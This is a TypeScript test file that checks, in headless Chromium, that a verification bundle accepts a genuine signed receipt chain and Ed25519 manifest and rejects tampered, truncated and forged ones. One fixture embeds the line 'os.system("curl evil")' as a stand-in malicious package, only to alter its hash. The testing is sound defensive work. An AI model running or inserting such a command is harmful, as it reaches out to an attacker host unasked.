// A real browser verifies real evidence: a live local Hall (the worker in Miniflare) issues a
// receipt chain, Node exports it with an Ed25519 manifest, a loopback page imports the built
// edgehall/verify bundle, and headless Chromium runs it. The test reads the verdicts the page
// reports and keeps a screenshot in test-artifacts/.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HallClient } from '../../src/client/entry.js';
import { buildManifest, hashPackageFiles, serializeManifest, signManifestEd25519 } from '../../src/attest/index.js';
import { exportEd25519PrivateJwk, exportEd25519PublicJwk, generateEd25519KeyPair, importEd25519PrivateJwk } from '../../src/crypto/index.js';
import { startLiveHall, type LiveHall } from '../client/live-hall.js';
import { launchChromium } from './chromium.js';
import { buildVerifyBundle, serveFiles, type StaticSite } from './static.js';

const root = fileURLToPath(new URL('../../', import.meta.url));
const pageDir = fileURLToPath(new URL('./page/', import.meta.url));

type Verdict = { ok: boolean; code?: string; deny_code?: string | null; broken_at_seq?: number; verified?: number; message?: string };

let hall: LiveHall;
let work: string;
let site: StaticSite;
let context: BrowserContext;
let verdicts: Record<string, Verdict & Record<string, unknown>> & { error?: string; userAgent?: string };
let chainLength = 0;

const example = (name: string) => JSON.parse(readFileSync(join(root, 'kv-seed', 'examples', `${name}.json`), 'utf8'));

async function exportFixtures(): Promise<Record<string, unknown>> {
  // Evidence from the live Hall: a few decisions, then the tenant's chain as the Hall serves it.
  const client = new HallClient({ baseUrl: hall.url, token: hall.demoToken });
  for (let i = 0; i < 4; i++) await client.route({ ...example('route'), correlation_id: `browser-${i}` });
  await client.route(example('route-denied'));
  const chain: Record<string, unknown>[] = [];
  for await (const r of client.receiptChain('demo')) chain.push(r);
  chainLength = chain.length;
  const hallKeys = await client.publicKeys();

  const tampered = structuredClone(chain);
  tampered[2]!['capability_id'] = 'cap.payments.charge'; // seq 3 edited after signing
  const cut = chain.filter((r) => r['seq'] !== 4); // seq 4 removed
  // A forger's key published under the Hall's kid.
  const forger = await generateEd25519KeyPair();
  const otherKeys = { keys: [exportEd25519PublicJwk(forger.publicKey, { kid: hall.kid })] };

  // An Ed25519 manifest signed with the org.demo namespace key.
  const enc = new TextEncoder();
  const pkg = hashPackageFiles([
    { path: 'worker.py', bytes: enc.encode('def run(task):\n    return summarize(task)\n') },
    { path: 'requirements.txt', bytes: enc.encode('pyhall-wcp==0.3.0\n') },
  ]);
  const pair = await generateEd25519KeyPair();
  const privateJwk = exportEd25519PrivateJwk(pair, { kid: 'demo-release-1', ns: 'org.demo' });
  const key = await importEd25519PrivateJwk(privateJwk);
  const workerId = 'org.demo.summarizer';
  const speciesId = 'wrk.doc.summarizer';
  const manifest = await signManifestEd25519(buildManifest({ packageHash: pkg.package_hash, workerId, speciesId, workerVersion: '1.2.0' }), key);
  const manifestTampered = { ...manifest, worker_version: '1.2.1' };
  return {
    hallUrl: hall.url,
    tenant: 'demo',
    chain,
    hallKeys,
    tampered,
    cut,
    otherKeys,
    packageHash: pkg.package_hash,
    otherPackageHash: hashPackageFiles([{ path: 'worker.py', bytes: enc.encode('import os; os.system("curl evil")\n') }]).package_hash,
    workerId,
    speciesId,
    namespaceKeys: { keys: [exportEd25519PublicJwk(pair.publicKey, { kid: 'demo-release-1', ns: 'org.demo' })] },
    manifestText: serializeManifest(manifest),
    manifestTamperedText: serializeManifest(manifestTampered),
  };
}

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'edgehall-browser-'));
  hall = await startLiveHall();
  const [fixtures, bundle] = await Promise.all([exportFixtures(), buildVerifyBundle(work)]);
  site = await serveFiles({
    'index.html': { type: 'text/html; charset=utf-8', body: readFileSync(join(pageDir, 'index.html'), 'utf8') },
    'page.js': { type: 'text/javascript', body: readFileSync(join(pageDir, 'page.js'), 'utf8') },
    'edgehall-verify.js': { type: 'text/javascript', body: bundle },
    'fixtures.json': { type: 'application/json', body: JSON.stringify(fixtures) },
  });

  context = await launchChromium(work);
  const page = context.pages()[0] ?? (await context.newPage());
  const pageErrors: string[] = [];
  page.on('pageerror', (e) => pageErrors.push(String(e)));
  await page.goto(site.url);
  await page.waitForSelector('body[data-done="1"]', { timeout: 30_000 });
  verdicts = await page.evaluate(() => (window as unknown as { __verdicts: typeof verdicts }).__verdicts);
  mkdirSync(join(root, 'test-artifacts'), { recursive: true });
  await page.screenshot({ path: join(root, 'test-artifacts', 'browser-verify.png'), fullPage: true });
  expect(pageErrors).toEqual([]);
});

afterAll(async () => {
  await context?.close();
  await site?.close();
  await hall?.close();
  if (work) rmSync(work, { recursive: true, force: true });
});

describe('edgehall/verify in headless Chromium', () => {
  it('ran in Chromium without errors', () => {
    expect(verdicts.error).toBeUndefined();
    expect(verdicts.userAgent).toMatch(/Chrome\/\d+/);
  });

  it('accepts the receipt chain exported from the live Hall, and a single receipt', () => {
    expect(chainLength).toBeGreaterThanOrEqual(5);
    expect(verdicts['chain']).toMatchObject({ ok: true, verified: chainLength });
    expect(verdicts['firstReceipt']).toMatchObject({ ok: true });
  });

  it('catches an edited receipt at its seq, and a removed one at the missing seq', () => {
    expect(verdicts['tampered']).toMatchObject({ ok: false, broken_at_seq: 3, verified: 2, code: 'RECEIPT_HASH_MISMATCH' });
    expect(verdicts['cut']).toMatchObject({ ok: false, broken_at_seq: 4, verified: 3, code: 'RECEIPT_CHAIN_GAP' });
  });

  it("refuses a receipt checked against a forger's key published under the Hall's kid", () => {
    expect(verdicts['foreignKey']).toMatchObject({ ok: false, code: 'RECEIPT_SIGNATURE_INVALID' });
  });

  it('verifies the Ed25519 manifest and denies an edited one and another package', () => {
    expect(verdicts['manifest']).toMatchObject({ ok: true, deny_code: null, signature_type: 'ed25519', namespace: 'org.demo' });
    expect(verdicts['manifestTampered']).toMatchObject({ ok: false, deny_code: 'ATTEST_SIG_INVALID' });
    expect(verdicts['manifestOtherPackage']).toMatchObject({ ok: false, deny_code: 'ATTEST_HASH_MISMATCH' });
  });

  it('saved a screenshot of the page', () => {
    expect(existsSync(join(root, 'test-artifacts', 'browser-verify.png'))).toBe(true);
  });
});
